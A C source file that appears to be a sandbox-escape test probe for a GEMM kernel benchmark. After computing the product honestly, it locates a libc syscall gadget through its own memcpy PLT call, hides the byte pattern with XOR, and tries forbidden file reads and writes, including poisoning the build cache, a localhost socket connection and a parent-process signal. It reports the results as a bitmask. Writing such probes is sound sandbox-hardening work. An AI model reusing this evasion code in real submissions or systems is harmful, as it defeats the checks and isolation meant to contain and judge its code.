/* TRICK: system calls with NO syscall instruction and NO address of a library function: a
   glibc syscall-wrapper tail located through our own `call memcpy@PLT` (see gadget below). This
   probe computes C honestly, then tries what the sandbox should forbid and reports the outcome
   as a bitmask in C[0][0], which the wrong_answer error text prints ("got <mask>").
   bit0 gadget found, bit1 /proc/self/maps readable, bit2 created @OUTSIDE_MARKER@,
   bit3 read the repo's results DB (absolute path), bit4 created a file in the repo,
   bit5 socket(AF_INET), bit6 connect 127.0.0.1:47474, bit7 read @HOST_FILE@,
   bits 9-14 fds 3..8 open, bit15 kill(getppid(),0) ok, bit16 affinity allows >1 CPU, bit17 cwd opens,
   bit18 created a file beside its own driver binary (the build cache).
   EXPECT: rejected (gadget use) or wrong_answer; the mask says what escaped */
static void naive(int M, int N, int K, const float *A, int lda, const float *B, int ldb, float *C, int ldc, int rows)
{
    for (int i = 0; i < rows; i++) {
        float *c = C + (long)i * ldc;
        for (int j = 0; j < N; j++) c[j] = 0.0f;
        for (int k = 0; k < K; k++) {
            float a = A[(long)i * lda + k];
            const float *b = B + (long)k * ldb;
            for (int j = 0; j < N; j++) c[j] += a * b[j];
        }
    }
}
/* ---- libc syscall gadget: no syscall instruction in this object, no address of a library
   function taken. We emit an ordinary `call memcpy@PLT` (allowed: memcpy may be called), read
   our own code to decode that call's target (the PLT stub), decode the stub's `jmp *GOT(%rip)`,
   read the GOT slot (memcpy's real address inside libc), then search libc's text for a glibc
   syscall wrapper tail `0f 05 48 3d 01 f0 ff ff` (syscall; cmp $-4095,%rax; jae; ret) and call
   into it with our own registers. ---- */
static __attribute__((noinline)) unsigned char *g_find(void)
{
    unsigned char *site, *t;
    char d[8], s[8] = {0};
    __asm__ volatile("lea 1f(%%rip), %0\n"
                     "  lea %1, %%rdi\n  lea %2, %%rsi\n  movl $1, %%edx\n"
                     "  sub $128, %%rsp\n"
                     "1: call memcpy@PLT\n"
                     "  add $128, %%rsp\n"
                     : "=&r"(site), "=m"(d) : "m"(s) : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory",
                       "xmm0", "xmm1", "xmm2", "xmm3", "xmm4", "xmm5", "xmm6", "xmm7", "xmm8", "xmm9", "xmm10",
                       "xmm11", "xmm12", "xmm13", "xmm14", "xmm15");
    t = site + 5 + *(int *)(site + 1);                 /* PLT stub or memcpy itself */
    for (int i = 0; i < 16; i++)
        if (t[i] == 0xff && t[i + 1] == 0x25) {         /* jmp *disp32(%rip) */
            unsigned char **got = (unsigned char **)(t + i + 6 + *(int *)(t + i + 2));
            t = *got;
            break;
        }
    /* the pattern is kept xor-ed so that no `0f 05` pair appears in our own code or data */
    volatile unsigned char key = 0x55;
    static const unsigned char enc[8] = {0x0f ^ 0x55, 0x05 ^ 0x55, 0x48 ^ 0x55, 0x3d ^ 0x55, 0x01 ^ 0x55, 0xf0 ^ 0x55, 0xff ^ 0x55, 0xff ^ 0x55};
    unsigned char pat[8];
    for (int i = 0; i < 8; i++) pat[i] = enc[i] ^ key;
    for (long off = 0; off < (1L << 20); off++) {
        unsigned char *p = t - off;
        int i = 0;
        while (i < 8 && p[i] == pat[i]) i++;
        if (i == 8) return p;
    }
    return 0;
}
static __attribute__((noinline)) long g_sys(unsigned char *g, long n, long a1, long a2, long a3, long a4, long a5, long a6)
{
    long r;
    register long r10 __asm__("r10") = a4;
    register long r8 __asm__("r8") = a5;
    register long r9 __asm__("r9") = a6;
    __asm__ volatile("sub $128, %%rsp\n  call *%[g]\n  add $128, %%rsp"
                     : "=a"(r), "+D"(a1), "+S"(a2), "+d"(a3), "+r"(r10), "+r"(r8), "+r"(r9)
                     : [g] "r"(g), "a"(n) : "rcx", "r11", "memory");
    return r;
}

void tensorop_gemm_f32(int M, int N, int K, const float *A, int lda, const float *B, int ldb, float *C, int ldc)
{
    naive(M, N, K, A, lda, B, ldb, C, ldc, M);
    unsigned char *g = g_find();
    long mask = 0;
    if (g) {
        mask |= 1;
        long fd = g_sys(g, 2, (long)"/proc/self/maps", 0, 0, 0, 0, 0);
        if (fd >= 0) { mask |= 2; g_sys(g, 3, fd, 0, 0, 0, 0, 0); }
        fd = g_sys(g, 2, (long)"@OUTSIDE_MARKER@", 01 | 0100 | 01000, 0644, 0, 0, 0);
        if (fd >= 0) { mask |= 4; g_sys(g, 1, fd, (long)"escaped\n", 8, 0, 0, 0); g_sys(g, 3, fd, 0, 0, 0, 0, 0); }
        fd = g_sys(g, 2, (long)"@REPO_DB@", 0, 0, 0, 0, 0);
        if (fd >= 0) { mask |= 8; g_sys(g, 3, fd, 0, 0, 0, 0, 0); }
        fd = g_sys(g, 2, (long)"@REPO_MARKER@", 01 | 0100, 0644, 0, 0, 0);
        if (fd >= 0) { mask |= 16; g_sys(g, 3, fd, 0, 0, 0, 0, 0); }
        long s = g_sys(g, 41, 2, 1, 0, 0, 0, 0);
        if (s >= 0) {
            mask |= 32;
            unsigned char sa[16] = {2, 0, 0xb9, 0x72, 127, 0, 0, 1};   /* port 47474 */
            if (g_sys(g, 42, s, (long)sa, 16, 0, 0, 0) == 0) mask |= 64;
            g_sys(g, 3, s, 0, 0, 0, 0, 0);
        }
        fd = g_sys(g, 2, (long)"@HOST_FILE@", 0, 0, 0, 0, 0);
        if (fd >= 0) { mask |= 128; g_sys(g, 3, fd, 0, 0, 0, 0, 0); }
        for (int i = 3; i <= 8; i++) { char st[256]; if (g_sys(g, 5, i, (long)st, 0, 0, 0, 0) == 0) mask |= 1L << (6 + i); }
        if (g_sys(g, 62, g_sys(g, 110, 0, 0, 0, 0, 0, 0), 0, 0, 0, 0, 0) == 0) mask |= 1L << 15;
        unsigned long cpus[16] = {0};
        if (g_sys(g, 204, 0, sizeof cpus, (long)cpus, 0, 0, 0) > 0) {
            int n = 0; for (int i = 0; i < 16; i++) n += __builtin_popcountl(cpus[i]);
            if (n > 1) mask |= 1L << 16;
        }
        {   /* bit18: create a file next to our own driver binary (the build cache) */
            char path[4200];
            long n = g_sys(g, 89, (long)"/proc/self/exe", (long)path, 4000, 0, 0, 0);
            if (n > 0) {
                while (n > 0 && path[n - 1] != '/') n--;
                const char *nm = "poisoned_by_kernel";
                for (int i = 0; nm[i]; i++) path[n++] = nm[i];
                path[n] = 0;
                long f2 = g_sys(g, 2, (long)path, 01 | 0100, 0644, 0, 0, 0);
                if (f2 >= 0) { mask |= 1L << 18; g_sys(g, 3, f2, 0, 0, 0, 0, 0); }
            }
        }
        fd = g_sys(g, 2, (long)".", 0200000, 0, 0, 0, 0);                   /* O_DIRECTORY: cwd */
        if (fd >= 0) { mask |= 1L << 17; g_sys(g, 3, fd, 0, 0, 0, 0, 0); }
    }
    C[0] = (float)mask;
}
